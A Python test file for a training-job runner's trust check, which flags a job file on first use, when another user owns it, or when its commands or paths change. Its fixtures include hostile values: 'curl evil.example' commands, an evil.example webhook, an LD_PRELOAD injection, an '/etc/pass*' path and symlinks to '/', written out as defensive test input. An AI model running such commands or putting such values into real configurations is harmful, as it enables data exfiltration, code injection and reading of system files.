"""A job file is confirmed on its first use, if it is another's, and if what it runs has changed."""

from __future__ import annotations

import sys
from pathlib import Path

import msgspec
import pytest

from rocsteady.run.job.job_file import read_job
from rocsteady.run.job.trust import Doubt, changes, doubts, trust
from rocsteady.run.job.values import Job
from rocsteady.screens.job_questions import job_here


def job_file(tmp_path: Path, mode: int = 0o644) -> Path:
    path = tmp_path / "rocsteady.toml"
    path.write_text("command = ['python', 'train.py']\n")
    path.chmod(mode)
    return path


def test_the_first_use_and_a_changed_command_are_confirmed(tmp_path: Path) -> None:
    path = job_file(tmp_path)
    assert doubts(read_job(path)) == (Doubt.NEW,)
    assert changes(read_job(path)) == ("+ command: python train.py",)

    trust(read_job(path))
    path.write_text("command = ['python', 'train.py']\ndeadline = '36h'  # another line\n")
    assert doubts(read_job(path)) == ()

    path.write_text("command = ['curl', 'evil.example']\n")
    assert doubts(read_job(path)) == (Doubt.CHANGED,)
    assert changes(read_job(path)) == (
        "- command: python train.py",
        "+ command: curl evil.example",
    )


@pytest.mark.parametrize(
    "more",
    [
        "[resume]\ncheckpoints = ['*.pt']\narguments = ['--load', '{checkpoint}']",
        "resume_trainer = true",
        "[resume]\ncheckpoints = ['*.pt']\nenvironment = { LD_PRELOAD = '{checkpoint}' }",
        "[variants.small]\narguments = ['--evil']",
        "name = 'x'\n[[stages]]\nname = 'one'\narguments = ['--evil']",
        "[notify]\ncommand = ['curl', 'evil.example']",
        "[notify]\nwebhook = 'https://evil.example/x'",
        "[metrics]\nprometheus = '/home/other/a.prom'",
        "[resume]\ncheckpoints = ['../other/*.pt']",
        "[resume]\ncheckpoints = ['other/*.pt']",
        "[resume]\ncheckpoints = ['linked/*.pt']",
        "[done_when]\nfiles = [{ path = '/etc/pass*' }]",
        "[done_when]\nfiles = [{ path = '~/x.pt' }]",
    ],
)
def test_what_it_adds_starts_sends_to_or_reaches_outside_is_confirmed(
    tmp_path: Path, more: str
) -> None:
    path = job_file(tmp_path)
    (tmp_path / "linked").symlink_to("/")
    trust(read_job(path))

    path.write_text(path.read_text() + more)

    assert doubts(read_job(path)) == (Doubt.CHANGED,)


def test_what_was_there_before_is_confirmed_again_once_it_is_used_or_leads_elsewhere(
    tmp_path: Path,
) -> None:
    path = job_file(tmp_path)
    (tmp_path / "out").mkdir()
    resume = "[metrics]\nfile = 'out/m.jsonl'\n[resume]\ncheckpoints = ['*.pt']\nexisting = "
    path.write_text(path.read_text() + resume + "'fresh'")
    trust(read_job(path))

    path.write_text(path.read_text().replace("fresh", "continue"))
    assert doubts(read_job(path)) == (Doubt.CHANGED,)
    assert "+ resume.existing: continue" in changes(read_job(path))

    trust(read_job(path))
    assert doubts(read_job(path)) == ()
    (tmp_path / "out").rmdir()
    (tmp_path / "out").symlink_to("/")
    assert doubts(read_job(path)) == (Doubt.CHANGED,)


@pytest.mark.parametrize("pattern", ["o*/*.pt", "**/*.pt", "[o]ut/x.pt"])
def test_where_links_that_a_pattern_finds_lead_is_shown(tmp_path: Path, pattern: str) -> None:
    project, elsewhere = tmp_path / "project", tmp_path / "elsewhere"
    project.mkdir()
    elsewhere.mkdir()
    (elsewhere / "x.pt").touch()
    path = job_file(project)
    path.write_text(f"{path.read_text()}[resume]\ncheckpoints = ['{pattern}']\n")
    trust(read_job(path))
    assert doubts(read_job(path)) == ()

    (project / "out").symlink_to(elsewhere)

    assert doubts(read_job(path)) == (Doubt.CHANGED,)
    outside = f"+ resume.checkpoints, outside this folder: {pattern} (in {elsewhere})"
    assert changes(read_job(path)) == (outside,)


@pytest.mark.skipif(sys.platform == "win32", reason="owners and modes")
def test_a_job_file_that_others_own_or_write_is_confirmed(tmp_path: Path) -> None:
    path = job_file(tmp_path, mode=0o664)
    assert doubts(read_job(path)) == (Doubt.OPEN, Doubt.NEW)
    theirs = msgspec.structs.replace(read_job(path), owner=4711, mode=0o644)
    assert doubts(theirs) == (Doubt.ANOTHERS, Doubt.NEW)

    trust(read_job(path))

    assert doubts(read_job(path)) == ()  # these very bytes were confirmed
    assert doubts(theirs) == (Doubt.ANOTHERS,)  # the same bytes, but another put them there
    trust(theirs)
    assert doubts(theirs) == ()
    trust(read_job(path))
    path.write_text(path.read_text() + "# changed")
    assert doubts(read_job(path)) == (Doubt.OPEN,)
    theirs = msgspec.structs.replace(read_job(path), owner=4711, mode=0o644)
    assert doubts(theirs) == (Doubt.ANOTHERS,)


def test_without_a_state_folder_every_use_is_the_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "taken").touch()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "taken"))
    file = read_job(job_file(tmp_path))
    trust(file)

    assert doubts(file) == (Doubt.NEW,)


def test_beside_a_typed_command_only_what_the_file_adds_is_confirmed(
    tmp_path: Path,
) -> None:
    path = job_file(tmp_path)
    typed = Job(command=("python", "train.py"))
    assert doubts(read_job(path), typed) == ()

    path.write_text(path.read_text() + "[notify]\ncommand = ['./told.sh']")
    typed = msgspec.structs.replace(read_job(path).job, command=("python", "train.py"))
    assert doubts(read_job(path), typed) == (Doubt.NEW,)


def test_torchrun_which_can_ask_nobody_uses_no_job_file_that_was_not_confirmed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, command = job_file(tmp_path), (sys.executable, "train.py")
    path.write_text(path.read_text() + "[notify]\ncommand = ['curl', 'evil.example']")

    def job(*, yes: bool = False) -> Job:
        return job_here(tmp_path, command, yes=yes, of_ranks=True)

    assert job() == Job(command=command)
    assert "rocsteady.toml is not used" in capsys.readouterr().err
    assert job(yes=True).notify is not None
    assert job().notify is not None  # from then on
